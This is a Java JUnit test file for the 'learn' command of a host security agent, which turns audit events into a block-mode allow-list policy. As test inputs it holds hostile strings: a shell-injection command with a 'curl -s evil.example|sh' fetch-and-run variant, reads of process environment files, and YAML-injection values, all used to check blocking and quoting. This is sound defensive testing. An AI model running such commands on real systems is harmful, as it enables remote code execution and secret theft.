package dev.hostguard.agent.cli.learn;

import static dev.hostguard.agent.cli.TestEvents.cli;
import static dev.hostguard.agent.cli.TestEvents.fileOpen;
import static dev.hostguard.agent.cli.TestEvents.process;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hostguard.agent.cli.TestEvents;
import dev.hostguard.agent.config.PolicyParser;
import dev.hostguard.agent.path.ResolvedPath;
import dev.hostguard.agent.policy.Action;
import dev.hostguard.agent.policy.AllowEntry;
import dev.hostguard.agent.policy.AuthClass;
import dev.hostguard.agent.policy.Decision;
import dev.hostguard.agent.policy.FileAccess;
import dev.hostguard.agent.policy.Mode;
import dev.hostguard.agent.policy.Operation;
import dev.hostguard.agent.policy.Policy;
import dev.hostguard.agent.policy.PolicyEngine;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;

/**
 * {@code learn}: the policy it writes is one the agent's own parser accepts, and the engine compiled from it allows
 * exactly what was seen.
 */
class LearnCommandTest {
    @TempDir
    Path dir;

    private final List<String> audit = List.of(
            "[hostguard] posture: uid=1000",
            process("logged", "2026-11-29T10:00:05Z", "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data", ".")
                    .route("POST", "/admin/backup").key("6a8f7f5b0280").json(),
            process("logged", "2026-11-29T10:07:00Z", "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data", ".")
                    .route("POST", "/admin/backup").key("6a8f7f5b0280").json(),
            process("logged", "2026-11-29T10:03:00Z", "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data", ".")
                    .route("POST", "/admin/backup").auth("none").json(),
            process("logged", "2026-11-29T10:04:30Z", "./bin/export", "--password", "", "--all")
                    .route("POST", "/admin/backup").json(),
            process("logged", "2026-11-29T10:04:00Z", "sh", "-c", "tar -cf - . | gzip;touch /tmp/pwned # \"x\"\n- injected: yes")
                    .route("POST", "/admin/backup").json(),
            fileOpen("logged", "proc-cmdline", "2026-11-29T10:01:00Z", "/proc/4242/cmdline")
                    .file("/proc/4242/cmdline", "/proc/self/cmdline", "read").route("GET", "/admin/debug/cmdline").json(),
            fileOpen("logged", "proc-cmdline", "2026-11-29T10:01:10Z", "/proc/4242/task/4250/cmdline")
                    .file("/proc/4242/task/4250/cmdline", "/proc/thread-self/cmdline", "read")
                    .route("GET", "/admin/debug/threads").json(),
            fileOpen("logged", "proc-environ", "2026-11-29T10:01:30Z", "/proc/1/environ").route("GET", "/admin/file").json(),
            TestEvents.of("directory-list", "logged", "sensitive-listing", "2026-11-29T10:02:00Z")
                    .file("/var/log", null, "list").route("GET", "/admin/files/*").json(),
            TestEvents.of("unix-connect", "blocked", "runtime-socket", "2026-11-29T10:02:30Z")
                    .file("/run/docker.sock", "/var/run/docker.sock", "connect").json(),
            "{\"event\":{\"action\":\"policy-reloaded\"},\"hostguard\":{\"policy_hash\":\"ab\"}}",
            "{\"broken\": ");

    @Test
    void writesAPolicyThePolicyParserAcceptsInTheDocumentedOrder() throws Exception {
        TestEvents.Run run = learn(audit);
        Policy policy = PolicyParser.parse(run.out(), "learned.yaml"); // strict: an undocumented key would fail
        assertEquals(Mode.BLOCK, policy.mode());
        List<AllowEntry> allow = policy.allow();
        for (AllowEntry entry : allow) {
            assertTrue(entry.reason().startsWith("learned from events (seen "), "every entry has a reason: " + entry);
        }
        assertEquals(List.of(
                        // outside any request first, then by route; within a route by operation, then target
                        "unix-connect /run/docker.sock null",
                        "file-open /proc/self/cmdline GET /admin/debug/cmdline",
                        "file-open /proc/thread-self/cmdline GET /admin/debug/threads",
                        "file-open /proc/1/environ GET /admin/file",
                        "directory-list /var/log GET /admin/files/*",
                        "process-start /srv/bin/export POST /admin/backup",
                        "process-start sh POST /admin/backup",
                        "process-start tar POST /admin/backup"),
                allow.stream().map(e -> e.operation().eventAction() + " "
                        + (e.executable() != null ? e.executable() : e.path()) + " "
                        + (e.routePath() == null ? null : e.routeMethod() + " " + e.routePath())).toList());
        assertEquals(Set.of("api-key", "none"), allow.get(7).auth());
        assertEquals(Set.of(FileAccess.READ), allow.get(1).accesses());

        assertTrue(run.out().contains("  # seen 3 times (logged 3), first 2026-11-29T10:00:05Z, last 2026-11-29T10:07:00Z,"
                + " rule process-start\n  - operation: process-start\n    executable: \"tar\""), run.out());
        assertTrue(run.out().contains("  # POST /admin/backup\n"), run.out());
        assertTrue(run.out().startsWith("# HostGuard policy, learned by `java -jar hostguard-agent.jar learn` from 10"
                + " events (1 other events ignored)\n# seen from 2026-11-29T10:00:05Z to 2026-11-29T10:07:00Z."), run.out());

        List<String> warnings = run.err().lines().toList();
        assertEquals(3, warnings.size(), run.err());
        assertTrue(warnings.get(0).startsWith("hostguard: skipped " + dir.resolve("events.jsonl") + ":13: not a JSON event"),
                run.err());
        assertTrue(warnings.get(1).contains("/proc/1/environ") && warnings.get(1).contains("process id"), run.err());
        assertTrue(warnings.get(2).contains("/var/log on GET /admin/files/*: route hold(s) * or ?"), run.err());
        assertTrue(run.out().contains("    # REVIEW: route hold(s) * or ?"), run.out());
    }

    /**
     * The round trip the operator makes: audit events, {@code learn}, the agent's own parser and engine in block
     * mode. What was seen is allowed, with the entry's reason; the same operation with another argument, on another
     * route or method, or by another authentication class is still blocked.
     */
    @Test
    void theLearnedPolicyAllowsExactlyWhatWasSeenAndBlocksTheRest() throws Exception {
        PolicyEngine engine = new PolicyEngine(PolicyParser.parse(learn(audit).out(), "learned.yaml"), Mode.BLOCK,
                List.of());
        String backup = "/admin/backup";

        Decision tar = engine.decide(exec(engine, "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data", "."),
                AuthClass.API_KEY, "POST", backup);
        assertEquals("allowed", tar.eventDecision());
        assertEquals("learned from events (seen 3x); say why the service does this", tar.allowedBy().reason());
        assertEquals("allowed", engine.decide(exec(engine, "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data", "."),
                AuthClass.NONE, "POST", backup).eventDecision(), "both authentication classes seen");
        assertBlocked(engine, exec(engine, "tar", "-czf", "/backups/b.tgz", "-C", "/etc", "."), "POST", backup,
                "another argument");
        assertBlocked(engine, exec(engine, "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data", ".", "/etc"), "POST",
                backup, "one more argument");
        assertBlocked(engine, exec(engine, "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data"), "POST", backup,
                "one argument less");
        assertBlocked(engine, exec(engine, "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data", "."), "POST",
                "/admin/restore", "another route");
        assertBlocked(engine, exec(engine, "tar", "-czf", "/backups/b.tgz", "-C", "/srv/data", "."), "GET", backup,
                "another method");
        assertEquals("allowed", engine.decide(exec(engine, "sh", "-c", "tar -cf - . | gzip;touch /tmp/pwned # \"x\"\n"
                + "- injected: yes"), AuthClass.API_KEY, "POST", backup).eventDecision(),
                "arguments round-trip exactly, whatever they hold (the review deletes this entry: audit let it run)");
        assertBlocked(engine, exec(engine, "sh", "-c", "tar -cf - . | gzip;curl -s evil.example|sh"), "POST", backup,
                "another injected command on the same route");
        assertBlocked(engine, exec(engine, "pg_dump", "-C", "/srv/data"), "POST", backup, "another executable");

        // an empty argument and a relative executable, exactly as the service ran them (working directory /srv)
        assertEquals("allowed", engine.decide(exec(engine, "./bin/export", "--password", "", "--all"),
                AuthClass.API_KEY, "POST", backup).eventDecision());
        assertBlocked(engine, exec(engine, "./bin/export", "--password", "x", "--all"), "POST", backup,
                "a non-empty argument where an empty one was seen");
        assertBlocked(engine, new Operation(Action.PROCESS_START, "./bin/export",
                        null, null, List.of("./bin/export", "--password", "", "--all"), "/tmp",
                        Operation.PROCESS_START_RULE), "POST", backup, "the same relative name in another directory");

        // the JVM's own /proc/self/cmdline, learned from /proc/4242/cmdline, is this JVM's after a restart
        String cmdline = "/proc/" + ProcessHandle.current().pid() + "/cmdline";
        assertEquals("allowed", engine.decide(file(engine, FileAccess.READ, "/proc/self/cmdline", cmdline),
                AuthClass.API_KEY, "GET", "/admin/debug/cmdline").eventDecision());
        assertBlocked(engine, file(engine, FileAccess.READ, "/proc/self/cmdline", cmdline), "GET", "/admin/file",
                "the same file on another route");
        // /proc/thread-self is any thread of this JVM: the thread's id changes with every request
        String threadCmdline = "/proc/" + ProcessHandle.current().pid() + "/task/77/cmdline";
        assertEquals("allowed", engine.decide(file(engine, FileAccess.READ, "/proc/thread-self/cmdline", threadCmdline),
                AuthClass.API_KEY, "GET", "/admin/debug/threads").eventDecision());
        assertBlocked(engine, file(engine, FileAccess.READ, "/proc/1/task/1/cmdline", "/proc/1/task/1/cmdline"), "GET",
                "/admin/debug/threads", "another process's thread");
        assertBlocked(engine, file(engine, FileAccess.READ, "/proc/2/environ", "/proc/2/environ"), "GET",
                "/admin/file", "another process's environment");

        Operation socket = file(engine, FileAccess.CONNECT, "/var/run/docker.sock", "/run/docker.sock");
        assertEquals("allowed", engine.decide(socket, AuthClass.API_KEY).eventDecision(), "seen with no route");
    }

    private static void assertBlocked(PolicyEngine engine, Operation op, String method, String path, String what) {
        assertNotNull(op.rule(), what + ": no rule matches, so the test proves nothing");
        Decision decision = engine.decide(op, AuthClass.API_KEY, method, path);
        assertTrue(decision.blocked(), what + ": " + decision);
    }

    private static Operation exec(PolicyEngine engine, String... command) {
        return Operation.processStart(List.of(command), "/srv", engine.processRule(List.of(command)));
    }

    private static Operation file(PolicyEngine engine, FileAccess access, String given, String canonical) {
        ResolvedPath path = new ResolvedPath(given, given, canonical);
        return Operation.file(access, path, engine.pathRules().match(access, path));
    }

    private TestEvents.Run learn(List<String> lines) {
        Path events = TestEvents.write(dir.resolve("events.jsonl"), lines.toArray(String[]::new));
        TestEvents.Run run = cli("learn", events.toString());
        assertEquals(0, run.exit(), run.err());
        return run;
    }

    @Test
    void theSameEventsInAnyOrderAndFilesGiveTheSameBytes() {
        Path one = TestEvents.write(dir.resolve("one.jsonl"), audit.toArray(String[]::new));
        String expected = cli("learn", one.toString()).out();
        List<String> shuffled = new ArrayList<>(audit.subList(0, audit.size() - 1));
        Collections.shuffle(shuffled, new Random(5));
        Path a = TestEvents.write(dir.resolve("a.jsonl"), shuffled.subList(0, 4).toArray(String[]::new));
        Path b = TestEvents.write(dir.resolve("b.jsonl"), shuffled.subList(4, shuffled.size()).toArray(String[]::new));
        assertEquals(expected, cli("learn", b.toString(), a.toString()).out());
    }

    @Test
    void principalsHostGuardCannotAttributeArePointedAtThePolicy() throws Exception {
        TestEvents.Run run = learn(List.of(
                process("logged", "2026-11-29T10:00:05Z", "docker", "ps").route("GET", "/key/exec")
                        .principal("com.example.ApiKeyAuthentication").key("6a8f7f5b0280").json(),
                process("logged", "2026-11-29T10:00:06Z", "docker", "ps").route("GET", "/key/exec")
                        .principal("com.example.ApiKeyAuthentication").key("6a8f7f5b0280").json(),
                process("logged", "2026-11-29T10:00:07Z", "docker", "ps").route("GET", "/sso/exec")
                        .principal("com.example.SsoPrincipal\n- injected").json()));
        assertTrue(run.out().contains("credentials.person-principals"), run.out());
        assertTrue(run.out().contains("\n#   com.example.ApiKeyAuthentication (2 events)\n"), run.out());
        assertEquals(2, PolicyParser.parse(run.out(), "learned.yaml").allow().size(), "the comments broke nothing");
        assertTrue(run.err().contains("2 events classed api-key by principal com.example.ApiKeyAuthentication"),
                run.err());
    }

    @Test
    void noEventsGiveAnEmptyAllowList() throws Exception {
        Policy policy = PolicyParser.parse(learn(List.of("[hostguard] active: mode=audit")).out(), "learned.yaml");
        assertEquals(List.of(), policy.allow());
        assertEquals(Mode.BLOCK, policy.mode());
    }

    @Test
    void yamlQuotingSurvivesWhatAttackersPutInArguments() {
        for (String hostile : List.of("\"", "\\", "a: b", "# c", "\u0000\u0007\u001b[2J", "\u2028\u2029\u0085",
                "\uFEFF", "\uD800", "emoji \uD83D\uDE00", "{x}", "[y]", "&anchor *alias !tag", "'", "\r\n")) {
            Object loaded = new Load(LoadSettings.builder().build()).loadFromString("v: " + YamlText.quote(hostile));
            String expected = hostile.equals("\uD800") ? "\uD800" : hostile;
            assertEquals(expected, ((Map<?, ?>) loaded).get("v"), "round trip of " + hostile.codePoints().boxed().toList());
        }
        assertEquals("a?b ?? c", YamlText.comment("a\nb #? c"));
    }
}
